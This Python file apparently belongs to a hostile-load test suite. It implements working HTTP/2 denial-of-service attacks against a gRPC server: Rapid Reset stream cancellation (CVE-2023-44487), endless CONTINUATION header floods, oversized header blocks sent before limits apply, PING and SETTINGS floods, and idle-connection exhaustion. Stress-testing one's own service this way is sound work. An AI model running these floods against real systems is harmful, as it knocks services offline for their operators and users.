"""Attacks on the gRPC port by HTTP/2 itself: frames that cost the other side more than they cost to send."""

from __future__ import annotations

import socket
import struct
from contextlib import ExitStack, suppress

from loadtest.endurance.hostile.calls import SELECT
from loadtest.endurance.hostile.target import Target
from loadtest.rig.raw_http2 import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    PING,
    RST,
    SETTINGS,
    RawConnection,
    frame,
    literal,
)

BATCH = 200  # streams or frames that go out at once
FIELDS = 100_000  # header fields of a call
CALLS = 20  # such calls of a connection


def rapid_reset(target: Target) -> None:
    """Streams that are opened and cancelled in one go (CVE-2023-44487), on connections that are opened again."""
    with ExitStack() as stack:
        links = [stack.enter_context(RawConnection(target.grpc)) for _ in range(2)]
        for _ in target.turns():
            for index, link in enumerate(links):
                if link.closed:
                    link.socket.close()
                    links[index] = stack.enter_context(RawConnection(target.grpc))
                    continue
                block, out = link.headers(SELECT), bytearray()
                for _ in range(BATCH):
                    out += frame(HEADERS, END_HEADERS, link.next, block)
                    out += frame(RST, 0, link.next, struct.pack(">I", CANCEL))
                    link.next += 2
                link.send(bytes(out))
                link.take_in(0.0)


def continuation_flood(target: Target) -> None:
    """Headers that never end (CVE-2024-27983 and its kin), where the limits of headers are in force."""
    piece = b"".join(literal(f"x{number}", "y" * 100) for number in range(100))

    def begun() -> RawConnection:
        link = stack.enter_context(RawConnection(target.grpc))
        while not link.seen[SETTINGS] and link.take_in(1.0):  # what it acknowledges amid headers would end them
            pass
        link.send(frame(HEADERS, 0, 1, link.headers(SELECT)))
        return link

    with ExitStack() as stack:
        links = [begun() for _ in range(4)]
        for _ in target.turns():
            for index, link in enumerate(links):
                if link.closed:
                    link.socket.close()
                    links[index] = begun()
                    continue
                link.send(frame(CONTINUATION, 0, 1, piece) * 4)
                link.take_in(0.0)


def headers_before_limits(target: Target) -> None:
    """Calls with 100,000 header fields each, of a byte each: until SETTINGS are acknowledged a peer may know no limit."""
    fields = b"\x40\x01x\x00" + b"\xbe" * FIELDS  # a literal that is indexed, and its index again and again
    pieces = [fields[at : at + FRAME_BYTES] for at in range(0, len(fields), FRAME_BYTES)]
    with ExitStack() as stack:
        links: list[RawConnection] = []
        for turn in target.turns(0.02):
            if len(links) < 4:
                links.append(stack.enter_context(RawConnection(target.grpc, acknowledges=False)))
            link = links[turn % len(links)]
            if link.closed or link.next > 2 * CALLS:
                link.socket.close()
                links.remove(link)
                continue
            block = b"".join(
                frame(CONTINUATION, END_HEADERS * (piece is pieces[-1]), link.next, piece) for piece in pieces
            )
            link.send(frame(HEADERS, 0, link.next, link.headers(SELECT)) + block)
            link.next += 2
            link.take_in(0.0)


def control_frames(target: Target) -> None:
    """PING and SETTINGS without end."""
    with ExitStack() as stack:
        links = [stack.enter_context(RawConnection(target.grpc)) for _ in range(2)]
        out = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"")) * BATCH
        for _ in target.turns():
            for index, link in enumerate(links):
                if link.closed:
                    link.socket.close()
                    links[index] = stack.enter_context(RawConnection(target.grpc))
                link.send(out)
                link.take_in(0.0)


def idle_connections(target: Target) -> None:
    """As many connections as this process may have, on all ports, that say nothing; renewed as they are ended."""
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    most = min(20_000, hard - 100 if hard > 0 else 20_000)
    links: list[socket.socket] = []
    ports = [target.grpc, target.grpc, target.web, target.operator]
    for turn in target.turns():
        if len(links) >= most:
            with suppress(OSError):
                links.pop(0).close()
        host, _, port = ports[turn % 4].rpartition(":")
        with suppress(OSError):
            links.append(socket.create_connection((host, int(port)), timeout=1))
    for link in links:
        link.close()
